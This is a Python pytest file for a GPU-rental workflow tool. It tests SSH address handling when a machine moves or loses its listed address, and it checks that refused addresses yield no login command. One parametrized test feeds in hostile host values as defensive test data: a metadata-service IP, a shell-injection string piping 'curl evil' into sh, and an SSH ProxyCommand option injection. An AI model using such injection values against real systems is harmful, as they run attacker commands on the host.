"""Where a login goes: not to a refused address, nor to one that the machine has left."""

from pathlib import Path

import pytest

from tests.relisted import Relisted
from tests.stack import ERAS, Era, stack, text_of
from vastai_workflow.access.keys import SshKeys
from vastai_workflow.access.known_hosts import KnownHosts
from vastai_workflow.access.probe import SshProber

both_eras = pytest.mark.parametrize("era", ERAS)


@both_eras
@pytest.mark.requirement("READY-10")
async def test_after_a_move_that_nobody_here_caused_no_old_address_is_given_and_a_wait_finds_the_new_one(
    era: Era,
) -> None:
    market = Relisted()
    async with stack(era=era, transport_to=market.transport) as s:
        workflow_id, [machine] = await s.ready()
        market.at("203.0.113.250", 50022)
        [moved] = (await s.call("instance_status", instance_ids=[machine]))["instances"]
        assert (moved["readiness"], moved["ssh"]) == ("running", None)
        assert moved["reason"].startswith("moved: ")
        refusal = await s.refusal("export_inventory", format="ssh_config")
        assert "no machine of this server" in refusal["message"]
        waited = await s.call("wait_until_ready", workflow_id=workflow_id, timeout_s=2)
        [found] = waited["instances"]
        assert (found["readiness"], found["ssh"]["host"], found["ssh"]["port"]) == ("gpu_ok", "203.0.113.250", 50022)
        inventory = await s.call("export_inventory", format="ssh_config")
        assert "HostName 203.0.113.250" in inventory["text"]


@both_eras
@pytest.mark.requirement("READY-10")
async def test_a_machine_that_is_listed_without_an_address_for_once_has_not_moved(era: Era) -> None:
    market = Relisted()
    async with stack(era=era, transport_to=market.transport) as s:
        _, [machine] = await s.ready()
        market.shown = {"public_ipaddr": None, "ports": None, "ssh_host": None, "ssh_port": None}
        [row] = (await s.call("instance_status", instance_ids=[machine]))["instances"]
        assert row["readiness"] == "gpu_ok"
        assert row["ssh"] is not None


@pytest.mark.requirement("READY-9")
@pytest.mark.parametrize("host", ["169.254.169.254", "10.0.0.5", "x; curl evil|sh", "-oProxyCommand=id"])
async def test_no_command_to_log_in_is_given_for_an_address_that_is_refused(host: str, tmp_path: Path) -> None:
    market = Relisted()
    prober = SshProber(KnownHosts(tmp_path / "known_hosts"))
    keys = SshKeys(home=tmp_path, state_dir=tmp_path)
    async with stack(transport_to=market.transport, real_prober=prober, keys=keys) as s:
        workflow_id, _ = await s.rented()
        market.at(host, 22)
        s.clock.advance(60)
        result = await s.client.call_tool("wait_until_ready", {"workflow_id": workflow_id, "timeout_s": 3})
        assert result.structured_content is not None
        [row] = result.structured_content["instances"]
        assert row["ssh"] is None
        assert host not in text_of(result)
